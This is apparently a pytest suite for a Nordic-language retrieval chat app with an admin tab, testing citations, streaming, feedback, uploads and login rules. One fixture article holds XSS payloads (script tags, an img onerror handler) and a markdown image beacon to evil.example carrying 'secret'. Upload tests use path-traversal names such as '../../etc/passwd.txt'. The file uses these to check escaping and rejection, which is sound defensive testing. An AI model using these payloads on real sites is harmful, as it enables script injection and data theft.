"""The web chat and admin tab: handlers in process, then the launched app through gradio_client."""

from __future__ import annotations

import contextlib
import dataclasses
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import gradio as gr
import httpx
import pytest
from gradio_client import Client, handle_file

from coiassist import admin, ui
from coiassist.assistant import Assistant, History
from coiassist.config import Settings, load_settings
from coiassist.embeddings import Embedder
from coiassist.errors import AuthError
from coiassist.indexer import index_corpus
from coiassist.models import Answer
from coiassist.phrases import phrases_for
from coiassist.retrieval import SearchFilters
from coiassist.sanitize import escape_markdown
from coiassist.ui import ChatApp, build_app, check_bind, launch_options
from coiassist.ui_text import ui_text
from coiassist.vectors import forget_clients
from tests.conftest import ARTICLES, REPO, free_port, write_corpus
from tests.llm_server import LLMServer, json_error, llm_settings

# An article carrying every kind of markup that must stay inert when it is cited.
EVIL = (
    "---\ntitle: Skærmbesøg i Odense <script>window.__pwned=1</script>\nlang: da\n---\n"
    "Odense Kommune tilbyder skærmbesøg til ældre borgere i eget hjem.\n\n"
    "<script>window.__pwned=1</script>\n\n"
    "I 2022 fik 300 borgere i Odense skærmbesøg af kommunens sygeplejersker.\n\n"
    "![x](http://evil.example/?q=secret)\n\n"
    '<img src=http://127.0.0.1:1/x onerror="window.__pwned=1">\n\n'
    "Sygeplejerskerne i Odense sparede mange kilometer i bil.\n"
)
EVIL_QUESTION = "Hvor mange borgere i Odense fik skærmbesøg i 2022?"
DANISH_QUESTION = "Hvor mange velfærdsinnovatører var samlet i Øksnehallen?"


def _settings(home: Path, corpus: Path, **extra: Any) -> Settings:
    base = load_settings(config_file=home / "none.toml")
    return dataclasses.replace(base, home=home, corpus=corpus, **extra)


def ui_corpus(folder: Path) -> Path:
    """The bundled COI articles, the small da/nb/nn set and the markup-laden article."""
    shutil.copytree(REPO / "corpus", folder)
    write_corpus(folder, {**ARTICLES, "odense.md": EVIL})
    return folder


@pytest.fixture(scope="module")
def settings(tmp_path_factory: pytest.TempPathFactory, embedder: Embedder) -> Settings:
    root = tmp_path_factory.mktemp("ui")
    indexed = _settings(root / "home", ui_corpus(root / "corpus"))
    index_corpus(indexed)
    return indexed


@pytest.fixture(scope="module")
def app(settings: Settings) -> ChatApp:
    return build_app(settings)[1]


def final(outputs: list[Any]) -> tuple[list[dict[str, Any]], list[dict[str, Any]], str]:
    """(chat messages, turns, backend indicator) of the last thing a handler yielded."""
    messages, turns, _, status, _ = outputs[-1]
    return messages, turns, status


def ask(app: ChatApp, question: str, turns: list[Any] | None = None, lang: str = "da") -> list[Any]:
    return list(app.respond(question, turns or [], lang, "auto"))


# ---------------------------------------------------------------- chat, in process


def test_partial_answers_are_sent_at_most_every_interval(
    app: ChatApp, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ui, "STREAM_INTERVAL_S", 60.0)
    outputs = ask(app, DANISH_QUESTION)
    # the question shown at once, then only the checked answer: no partial text within a minute
    assert len(outputs) == 2
    assert outputs[0][0][-1]["content"] == ""
    assert "500" in outputs[1][0][1]["content"]


def test_answer_streams_then_ends_with_markers_and_a_sources_block(
    app: ChatApp, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ui, "STREAM_INTERVAL_S", 0.0)  # every partial text, however quick
    outputs = ask(app, DANISH_QUESTION)
    assert len(outputs) >= 3  # the question shown at once, partial text, the checked answer
    partial = [o[0][-1]["content"] for o in outputs[1:-1]]
    assert any("500" in text for text in partial)
    messages, turns, status = final(outputs)
    assert [m["role"] for m in messages] == ["user", "assistant", "assistant"]
    answer, sources = messages[1]["content"], messages[2]
    assert "500" in answer and "\\[" in answer  # the [n] marker, escaped so it shows as text
    key = turns[0]["citations"][0]["key"]
    assert f"\\[{key}\\]" in answer
    assert sources["content"].startswith(f"**Kilder ({len(turns[0]['citations'])})**")
    assert "<mark>" in sources["content"] and "500" in sources["content"].split("<mark>")[1]
    assert "4 vigtige takeaways fra Velfærdens Innovationsdag 2020" in sources["content"]
    assert "2020\\-02\\-27" in sources["content"] and "Dansk" in sources["content"]
    assert status == ui_text("da").backend_extractive
    assert outputs[-1][4]["choices"] == [(f"[{key}] {turns[0]['citations'][0]['title']}", str(key))]


def test_norwegian_question_gets_a_norwegian_answer(app: ChatApp) -> None:
    messages, turns, _ = final(ask(app, "Hvor lenge har Asker kommune testet tillitsmodellen?", lang="da"))
    assert turns[0]["language"] == "nb"  # the question's language, whatever the UI language
    assert messages[1]["content"].startswith(phrases_for("nb").lead_in)
    assert "tre år" in messages[1]["content"]


def test_article_markup_is_shown_as_text_never_as_markup(app: ChatApp) -> None:
    messages, turns, _ = final(ask(app, EVIL_QUESTION))
    assert turns[0]["citations"], "the Odense article should answer this"
    assert any("Odense" in c["title"] for c in turns[0]["citations"])
    for message in messages:
        shown = message["content"]
        # Every "<" and "![" from the article is backslash-escaped: Markdown shows it as text.
        assert not re.search(r"(?<!\\)<(script|img)", shown)
        assert not re.search(r"(?<!\\)\]\(http", shown) and not re.search(r"(?<!\\)!(?!\\)\[", shown)
    sources = messages[-1]["content"]
    assert "\\<script\\>" in sources  # escaped, so it is visible as text in the passage
    article = ChatApp.open_article(app, str(turns[0]["citations"][0]["key"]), turns, "da")
    assert not re.search(r"(?<!\\)<(script|img)", article)


def test_whole_article_opens_at_the_cited_passage(app: ChatApp) -> None:
    _, turns, _ = final(ask(app, DANISH_QUESTION))
    cited = turns[0]["citations"][0]
    shown = app.open_article(str(cited["key"]), turns, "da")
    assert shown.startswith("### 4 vigtige takeaways")
    assert ui_text("da").cited_passage in shown
    quoted = [line for line in shown.splitlines() if line.startswith(">")]
    assert any("<mark>" in line and "500" in line for line in quoted)
    # more than the chunk: the article's opening is there too, outside the quote
    assert (
        "COI var at finde til Velfærdens Innovationsdag 2020" in shown.split(ui_text("da").cited_passage)[0]
    )


def test_follow_up_passes_the_conversation_to_the_assistant(settings: Settings) -> None:
    seen: list[History] = []

    class Recording(Assistant):
        def stream(
            self,
            question: str,
            history: History = (),
            language: str | None = None,
            backend: str | None = None,
            filters: SearchFilters | None = None,
        ) -> Iterator[str | Answer]:
            seen.append(list(history))
            return super().stream(question, history, language, backend, filters)

    chat = ChatApp(settings, Recording(settings))
    _, turns, _ = final(ask(chat, "Hvem vant den danske innovasjonsprisen i 2019?", lang="nb"))
    messages, turns, _ = final(ask(chat, "Hvor reiste de?", turns, lang="nb"))
    assert seen[0] == []
    assert seen[1] == [
        {"role": "user", "content": "Hvem vant den danske innovasjonsprisen i 2019?"},
        {"role": "assistant", "content": turns[0]["answer"]},
    ]
    assert len(turns) == 2 and messages[0]["content"].startswith("Hvem vant")
    assert chat.new_conversation()[:3] == ([], [], "")


def test_empty_index_says_how_to_index(tmp_path: Path) -> None:
    chat = ChatApp(_settings(tmp_path / "home", write_corpus(tmp_path / "corpus")))
    messages, turns, _ = final(ask(chat, DANISH_QUESTION))
    assert messages[-1]["content"] == ui_text("da").empty_index
    assert "coiassist index" in messages[-1]["content"]
    assert turns[0]["failed"]
    assert chat.stats("nb") == ui_text("nb").empty_index


def test_bad_questions_get_a_message_in_the_ui_language(app: ChatApp, settings: Settings) -> None:
    messages, _, _ = final(ask(app, "  ?!  ", lang="nn"))
    assert messages[-1]["content"] == ui_text("nn").question_empty
    messages, _, _ = final(ask(app, "ord " * settings.max_question_chars, lang="nb"))
    assert messages[-1]["content"] == ui_text("nb").question_too_long.format(
        limit=settings.max_question_chars
    )


def test_unanswerable_question_is_refused_with_a_hint(app: ChatApp) -> None:
    messages, turns, _ = final(ask(app, "Hvad kostede den nye motorvej mellem Aarhus og Silkeborg?"))
    assert not turns[0]["citations"]
    assert ui_text("da").unanswerable_hint in messages[-1]["content"]
    assert len(messages) == 2  # no sources block for a refusal


def test_backend_down_falls_back_and_says_so(settings: Settings) -> None:
    with LLMServer() as llm:
        llm.script(json_error(503, {"error": {"message": "overloaded"}}))
        down = llm_settings(settings, llm)
        messages, turns, status = final(ask(ChatApp(down), DANISH_QUESTION))
    assert turns[0]["backend"] == "extractive"
    assert status.startswith(ui_text("da").backend_extractive)
    assert escape_markdown(phrases_for("da").fallback) in status
    assert escape_markdown(phrases_for("da").fallback) in messages[1]["content"]


def test_feedback_is_appended_with_the_answer_and_its_sources(app: ChatApp, settings: Settings) -> None:
    _, turns, _ = final(ask(app, DANISH_QUESTION))
    vote = gr.LikeData(None, {"index": 1, "value": "…", "liked": False})
    said, comment = app.feedback(turns, "  mangler kilde  ", "nb", vote)
    assert said == ui_text("nb").feedback_down and comment == ""
    app.feedback(turns, "", "da", gr.LikeData(None, {"index": 2, "value": "…", "liked": True}))
    records = [json.loads(line) for line in (settings.home / "feedback.jsonl").read_text().splitlines()]
    down, up = records[-2:]
    assert down["vote"] == "down" and down["comment"] == "mangler kilde"
    assert down["question"] == DANISH_QUESTION and "500" in down["answer"]
    assert down["citations"][0]["article_id"] == turns[0]["citations"][0]["article_id"]
    assert down["backend"] == "extractive" and down["time"]
    assert up["vote"] == "up"  # a vote on the sources block counts for its answer
    nothing = gr.LikeData(None, {"index": 0, "value": "…", "liked": True})  # the user's own message
    assert app.feedback(turns, "", "da", nothing)[0] == ui_text("da").feedback_none


# ---------------------------------------------------------------- admin, in process


@pytest.fixture
def admin_settings(tmp_path: Path, embedder: Embedder) -> Settings:
    indexed = _settings(tmp_path / "home", write_corpus(tmp_path / "corpus"), max_upload_mb=1, max_uploads=3)
    index_corpus(indexed)
    return indexed


def _file(folder: Path, name: str, data: bytes | str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


def test_upload_name_rules() -> None:
    assert admin.upload_suffix("rapport.MD") == ".md"
    assert admin.upload_suffix("data.jsonl") == ".jsonl"
    assert admin.upload_suffix("program.exe") == ""
    for bad in ("../../etc/passwd.txt", "/etc/x.txt", "C:\\x.txt", "..\\x.txt", "a\x00.txt", ""):
        assert admin.upload_suffix(bad) is None, bad


def test_uploads_are_checked_and_stored_under_generated_names(
    admin_settings: Settings, tmp_path: Path
) -> None:
    incoming = tmp_path / "incoming"
    good = _file(
        incoming, "ok.txt", "Robotter i Vejle\n\nVejle Kommune har købt 14 robotter til rengøring.\n"
    )
    files = [
        ("../../evil.txt", good),
        ("virus.exe", good),
        ("stor.txt", _file(incoming, "stor.txt", "a" * (1024 * 1024 + 1))),
        ("binær.txt", _file(incoming, "binær.txt", b"\x00\x01\x02" * 100)),
        ("tom.md", _file(incoming, "tom.md", b"")),
        ("Robotter i Vejle.txt", good),
    ]
    report = admin.save_uploads(admin_settings, files[:3])
    assert [r.code for r in report.rejected] == ["bad_name", "bad_type", "too_large"]
    report = admin.save_uploads(admin_settings, files[3:])
    assert [r.code for r in report.rejected] == ["unreadable", "empty"]
    assert "binary" in report.rejected[0].detail
    [accepted] = report.accepted
    assert accepted.titles == ("Robotter i Vejle",)
    stored = admin_settings.corpus / accepted.stored
    assert stored.parent == admin_settings.corpus / "uploads" and stored.name.startswith("upload-")
    assert stored.suffix == ".txt" and "Vejle" not in stored.name
    assert not list(admin_settings.corpus.parent.glob("evil*"))
    assert not any((admin_settings.home / "upload-staging").iterdir())
    too_many = admin.save_uploads(admin_settings, [("a.txt", good)] * 4)
    assert {r.code for r in too_many.rejected} == {"too_many"} and not too_many.accepted


def test_jsonl_upload_reusing_an_indexed_id_is_refused(admin_settings: Settings, tmp_path: Path) -> None:
    line = json.dumps({"id": "velfaerd", "title": "Kopi", "text": "En kopi af en artikel om velfærd."})
    report = admin.save_uploads(
        admin_settings, [("bulk.jsonl", _file(tmp_path, "bulk.jsonl", line))], {"velfaerd"}
    )
    assert [r.code for r in report.rejected] == ["duplicate_id"]


def test_upload_reindex_answer_then_delete(admin_settings: Settings, tmp_path: Path) -> None:
    chat = ChatApp(admin_settings)
    upload = _file(
        tmp_path / "in",
        "vejle.md",
        "# Robotter i Vejle\n\nVejle Kommune har købt 14 robotter til rengøring.\n",
    )
    result, stats, picker = chat.upload([str(upload)], "", "da")
    assert ui_text("da").accepted in result and "Indekseret: 1 tilføjet" in result
    assert "| Artikler | 4 |" in stats
    [uploaded] = [aid for _, aid in picker["choices"] if aid.startswith("uploads/")]
    messages, turns, _ = final(ask(chat, "Hvor mange robotter har Vejle Kommune købt?"))
    assert "14" in messages[1]["content"] and turns[0]["citations"][0]["article_id"] == uploaded

    result, stats, picker = chat.delete(uploaded, "", "da")
    assert result.startswith("Slettet: Robotter i Vejle") and "1 slettet" in result
    assert "| Artikler | 3 |" in stats and uploaded not in [aid for _, aid in picker["choices"]]
    assert not list((admin_settings.corpus / "uploads").iterdir())


def test_delete_refuses_articles_of_a_jsonl_file(admin_settings: Settings) -> None:
    line = json.dumps({"id": "samlet", "title": "Samlet", "text": "Tekst om samarbejde i kommunerne."})
    _file(admin_settings.corpus, "samlet.jsonl", line + "\n")
    chat = ChatApp(admin_settings)
    chat.reindex("", "da")
    result, _, _ = chat.delete("samlet", "", "da")
    assert ui_text("da").reasons["bulk_file"] in result
    assert (admin_settings.corpus / "samlet.jsonl").exists()
    assert admin.delete_source(admin_settings, "../home/x.txt") == "outside"


def test_admin_actions_need_the_password(admin_settings: Settings, tmp_path: Path) -> None:
    guarded = dataclasses.replace(admin_settings, admin_password="hemmelig")
    chat = ChatApp(guarded)
    upload = _file(tmp_path / "in", "x.txt", "Titel\n\nTekst om velfærd i kommunerne.\n")
    for password in ("", "forkert"):
        assert chat.upload([str(upload)], password, "nb")[0] == ui_text("nb").wrong_password
        assert chat.reindex(password, "nb")[0] == ui_text("nb").wrong_password
    assert not (guarded.corpus / "uploads").exists()
    assert "Indeksert" in chat.reindex("hemmelig", "nb")[0]


def test_admin_is_off_on_a_public_address_without_a_password(admin_settings: Settings) -> None:
    public = dataclasses.replace(admin_settings, host="0.0.0.0")
    assert not admin.admin_enabled(public)
    with pytest.raises(AuthError):
        admin.check_admin(public, "")
    assert ChatApp(public).reindex("", "da")[0] == ui_text("da").wrong_password
    assert admin.admin_enabled(dataclasses.replace(public, admin_password="x"))


def test_serving_beyond_loopback_needs_a_login(admin_settings: Settings) -> None:
    check_bind(admin_settings)
    check_bind(dataclasses.replace(admin_settings, host="::1"))
    with pytest.raises(AuthError, match="auth_user"):
        check_bind(dataclasses.replace(admin_settings, host="0.0.0.0"))
    with_login = dataclasses.replace(admin_settings, host="0.0.0.0", auth_user="coi", auth_password="pw")
    check_bind(with_login)
    assert launch_options(with_login)["auth"] == ("coi", "pw")
    assert "auth" not in launch_options(admin_settings)


# ---------------------------------------------------------------- the launched app


@contextlib.contextmanager
def launched(settings: Settings) -> Iterator[str]:
    """The app of `settings` served on a free loopback port, for the life of the block; its URL."""
    local = dataclasses.replace(settings, port=free_port())
    demo, _ = build_app(local)
    _, url, _ = demo.launch(prevent_thread_lock=True, **launch_options(local))
    try:
        yield url
    finally:
        demo.close()


@pytest.fixture(scope="module")
def served(settings: Settings) -> Iterator[str]:
    with launched(dataclasses.replace(settings, max_upload_mb=1)) as url:
        yield url


def text_of(message: dict[str, Any]) -> str:
    """A message's text; Gradio 6 sends content as a list of blocks."""
    content = message["content"]
    if isinstance(content, str):
        return content
    return "".join(block.get("text", "") for block in content if isinstance(block, dict))


def test_client_gets_a_streamed_answer_with_sources(served: str) -> None:
    client = Client(served, verbose=False)
    job = client.submit(DANISH_QUESTION, "da", "auto", api_name="/chat")
    outputs = job.outputs()
    messages, _, status, _ = job.result()
    assert len(outputs) >= 2
    assert "500" in text_of(messages[1]) and "<mark>" in text_of(messages[2])
    assert status == ui_text("da").backend_extractive


def test_page_is_served_with_a_content_security_policy(served: str) -> None:
    response = httpx.get(served)
    assert response.status_code == 200
    assert "img-src 'self'" in response.headers["content-security-policy"]
    assert "fonts.googleapis" not in response.text


def test_client_upload_over_the_size_limit_is_refused(served: str, tmp_path: Path) -> None:
    big = _file(tmp_path, "stor.txt", "Stor\n\n" + "ord " * 300_000)
    client = Client(served, verbose=False)
    with pytest.raises(Exception, match="(?i)size|large|limit"):
        client.predict([handle_file(str(big))], "", "da", api_name="/upload")


def test_admin_stats_say_whether_dense_search_can_use_the_vectors(
    app: ChatApp, settings: Settings, tmp_path: Path
) -> None:
    assert re.search(r"\| Vektorar \| \d+ \|", app.stats("nn"))
    home = tmp_path / "home"
    shutil.copytree(settings.home, home)
    shutil.rmtree(home / "index" / "chroma")
    forget_clients()
    shown = ChatApp(dataclasses.replace(settings, home=home)).stats("da")
    row = next(line for line in shown.splitlines() if line.startswith("| Vektorer |"))
    assert "kun ordsøgning (BM25)" in row and "coiassist index" in row
    assert "<" not in row and row.count("|") - row.count("\\|") == 3  # escaped: one table row


def test_admin_stats_say_when_the_index_needs_rebuilding(
    app: ChatApp, settings: Settings, tmp_path: Path
) -> None:
    assert "genindeksér" not in app.stats("da")
    home = tmp_path / "home"
    shutil.copytree(settings.home, home)
    current = home / "index" / "CURRENT"
    pointer = json.loads(current.read_text(encoding="utf-8"))
    del pointer["analyzer"]  # as written before the analyzer's version was recorded
    current.write_text(json.dumps(pointer), encoding="utf-8")
    forget_clients()
    shown = ChatApp(dataclasses.replace(settings, home=home)).stats("da")
    assert "| ⚠ | Indekset er bygget af en ældre version og finder færre ord: genindeksér det |" in shown
